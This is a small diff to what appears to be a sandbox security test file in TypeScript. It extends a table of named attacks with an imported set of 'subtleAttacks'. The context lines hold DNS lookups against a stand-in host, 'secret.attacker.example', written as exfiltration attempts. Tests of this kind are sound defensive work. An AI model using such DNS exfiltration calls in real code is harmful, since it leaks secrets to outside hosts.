@@ -21,6 +21,7 @@ import v8 from 'node:v8';
 import vm from 'node:vm';
 import { Worker } from 'node:worker_threads';
 import { refusalOf } from '../../../core/request/address.ts';
+import { subtleAttacks } from './subtleAttacks.ts';
 
 interface Aim {
   /** A file outside the asset folder that holds a secret. */
@@ -195,6 +196,7 @@ export const ATTACKS: Readonly<Record<string, () => unknown>> = {
     ),
   'query DNS': () => dns.promises.resolveTxt('secret.attacker.example'),
   'query DNS by a resolver': () => new dns.Resolver().resolve('secret.attacker.example', () => {}),
+  ...subtleAttacks(aim),
 };
 
 /** Attacks that are measured from outside: the process is expected to be ended, or to end itself. */
